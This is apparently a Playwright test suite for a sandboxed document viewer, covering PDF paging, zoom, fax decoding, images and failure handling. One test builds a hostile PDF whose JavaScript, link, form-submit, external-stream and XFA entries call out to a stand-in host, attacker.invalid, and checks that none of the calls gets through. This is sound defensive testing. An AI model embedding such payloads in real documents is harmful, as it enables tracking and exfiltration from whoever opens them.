import type { Frame, Page } from '@playwright/test';
import { pdfOf, stream } from './fixtures/pdf.ts';
import { expect, test, type Person } from './fixtures/test.ts';

/** Puts the viewer on the person's page, as the app does, and shows it a document. */
async function view(
	person: Person,
	type: string,
	bytes: Buffer
): Promise<{ answer: unknown; frame: Frame }> {
	await person.page.goto('/');
	const answer = await person.page.evaluate(frameAndShow, {
		type,
		base64: bytes.toString('base64')
	});
	const frame = person.page.frames().find((one) => one.url().includes('/viewer/'));
	if (!frame) throw new Error('The viewer was not framed');
	return { answer, frame };
}

/** Runs in the page. */
async function frameAndShow({ type, base64 }: { type: string; base64: string }): Promise<unknown> {
	const frame = document.createElement('iframe');
	frame.setAttribute('sandbox', 'allow-scripts');
	frame.width = '800';
	frame.height = '900';
	const answers: unknown[] = [];
	let wake: (() => void) | null = null;
	addEventListener('message', (event) => {
		if (event.source !== frame.contentWindow) return;
		answers.push(event.data);
		wake?.();
	});
	const next = async () => {
		if (answers.length === 0)
			await new Promise<void>((resolve) => {
				wake = resolve;
			});
		return answers.shift();
	};
	frame.src = '/viewer/index.html';
	document.body.replaceChildren(frame);
	await next();
	const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0)).buffer;
	frame.contentWindow?.postMessage({ kind: 'show', type, bytes }, '*', [bytes]);
	return next();
}

/** Eleven pages printed by a real browser. */
async function printedPdf(page: Page): Promise<Buffer> {
	await page.setContent(
		Array.from(
			{ length: 11 },
			(_, index) => `<h1>Sheet ${index + 1}</h1><p>Total: 1,234.56</p>`
		).join('<div style="break-after: page"></div>')
	);
	return page.pdf({ format: 'A4' });
}

test('a PDF of many pages is shown, near pages drawn and far ones left until they come near', async ({
	browser,
	person
}) => {
	const printer = await browser.newPage();
	const file = await printedPdf(printer);
	await printer.close();
	const preparer = await person('a preparer');
	const { answer, frame } = await view(preparer, 'application/pdf', file);
	expect(answer).toEqual({ kind: 'shown', pages: 11 });
	await expect(frame.getByText('Sheet 1', { exact: true })).toBeAttached();
	await expect(frame.locator('section')).toHaveCount(11);
	expect(await frame.locator('canvas').count()).toBeLessThan(5);
	await frame.locator('section').last().scrollIntoViewIfNeeded();
	await expect(frame.getByText('Sheet 11', { exact: true })).toBeVisible();
	await expect(frame.locator('section').first().locator('canvas')).toHaveCount(0);
});

test('plus and minus zoom, and zero fits the width again', async ({ browser, person }) => {
	const printer = await browser.newPage();
	const file = await printedPdf(printer);
	await printer.close();
	const preparer = await person('a preparer');
	const { frame } = await view(preparer, 'application/pdf', file);
	const width = async () => (await frame.locator('section').first().boundingBox())?.width ?? 0;
	const fitted = await width();
	await frame.locator('section').first().click();
	await preparer.page.keyboard.press('+');
	await expect.poll(width).toBeGreaterThan(fitted * 1.2);
	await preparer.page.keyboard.press('0');
	await expect.poll(width).toBe(fitted);
	await preparer.page.keyboard.press('-');
	await expect.poll(width).toBeLessThan(fitted);
});

test('C20 the frame has no origin: no storage, no cookies, no network, no way to the app', async ({
	person
}) => {
	const preparer = await person('a preparer');
	const { frame } = await view(preparer, 'text/unknown', Buffer.from('x'));
	preparer.expectProblem(/Content Security Policy|violates|requires 'Trusted/);
	const reached = await frame.evaluate(async () => {
		const attempts: Record<string, () => unknown> = {
			storage: () => localStorage.length,
			cookies: () => document.cookie,
			database: () => indexedDB.open('x'),
			app: () => parent.document.title,
			worker: () =>
				new Promise((resolve, reject) => {
					const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
					worker.onmessage = resolve;
					worker.onerror = reject;
				}),
			network: async () => fetch('/api/status')
		};
		const succeeded = [];
		for (const [name, attempt] of Object.entries(attempts)) {
			try {
				await attempt();
				succeeded.push(name);
			} catch {
				// Refused, as it must be.
			}
		}
		return [origin, ...succeeded];
	});
	expect(reached).toEqual(['null']);
});

test('C20 a hostile PDF runs nothing, follows nothing and asks for nothing', async ({ person }) => {
	const away = 'http://attacker.invalid/canary';
	const file = pdfOf([
		`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R
			/AA << /WC 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >>
			/AcroForm << /Fields [7 0 R] /NeedAppearances true /XFA 10 0 R >> >>`,
		'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O 6 0 R >>
			/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>
				/XObject << /X 8 0 R >> >>
			/Annots [7 0 R 9 0 R] >>`,
		stream('', '/X Do BT /F 20 Tf 20 200 Td (Innocent) Tj ET'),
		`<< /S /JavaScript /JS (app.launchURL\\("${away}-js"\\); fetch\\("${away}-fetch"\\)) >>`,
		`<< /S /URI /URI (${away}-action) >>`,
		`<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 300]
			/A << /S /SubmitForm /F << /FS /URL /F (${away}-submit) >> >> >>`,
		stream(
			`/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray
				/F << /FS /URL /F (${away}-external-stream) >>`,
			'\0'
		),
		`<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${away}-link) >> >>`,
		stream(
			'',
			`<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><image href="${away}-xfa"/></template>`
		)
	]);
	const preparer = await person('a preparer');
	const { answer, frame } = await view(preparer, 'application/pdf', file);
	expect(answer).toEqual({ kind: 'shown', pages: 1 });
	await expect(frame.getByText('Innocent')).toBeAttached();
	await preparer.page.mouse.click(200, 200);
	await preparer.page.waitForTimeout(500);
	expect(await preparer.recording.withBytes('attacker.invalid')).toEqual([]);
	expect(preparer.context.pages()).toHaveLength(1);
	expect(frame.url()).toContain('/viewer/index.html');
});

test('a scanned fax page is decoded with the decoder in the viewer folder', async ({ person }) => {
	// Sixteen all-white rows in ITU-T T.6 are sixteen 1 bits; the Decode array turns them black.
	const file = pdfOf([
		'<< /Type /Catalog /Pages 2 0 R >>',
		'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R
			/Resources << /XObject << /X 5 0 R >> >> >>`,
		stream('', '100 0 0 100 0 0 cm /X Do'),
		stream(
			`/Type /XObject /Subtype /Image /Width 16 /Height 16 /BitsPerComponent 1 /ColorSpace /DeviceGray
				/Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 16 >>`,
			Buffer.from([0xff, 0xff, 0x00, 0x10, 0x01])
		)
	]);
	const preparer = await person('a preparer');
	const { answer, frame } = await view(preparer, 'application/pdf', file);
	expect(answer).toEqual({ kind: 'shown', pages: 1 });
	// It is there once it is drawn.
	await expect(frame.locator('canvas')).toBeAttached();
	const pixel = await frame.evaluate(() => {
		const canvas = document.querySelector('canvas');
		return [...(canvas?.getContext('2d')?.getImageData(50, 50, 1, 1).data ?? [])];
	});
	expect(pixel).toEqual([0, 0, 0, 255]);
});

test('a picture is shown', async ({ person }) => {
	const preparer = await person('a preparer');
	await preparer.page.goto('/');
	const picture = await preparer.page.screenshot();
	const { answer, frame } = await view(preparer, 'image/png', picture);
	expect(answer).toEqual({ kind: 'shown', pages: 1 });
	await expect(frame.getByRole('img')).toBeVisible();
});

test('a damaged document and an unknown type are said to have failed', async ({ person }) => {
	const preparer = await person('a preparer');
	const damaged = Buffer.from('%PDF-1.7 and then nothing');
	expect((await view(preparer, 'application/pdf', damaged)).answer).toEqual({
		kind: 'failed',
		reason: 'damaged'
	});
	expect((await view(preparer, 'image/png', damaged)).answer).toEqual({
		kind: 'failed',
		reason: 'damaged'
	});
	expect((await view(preparer, 'image/svg+xml', damaged)).answer).toEqual({
		kind: 'failed',
		reason: 'unknown-type'
	});
});
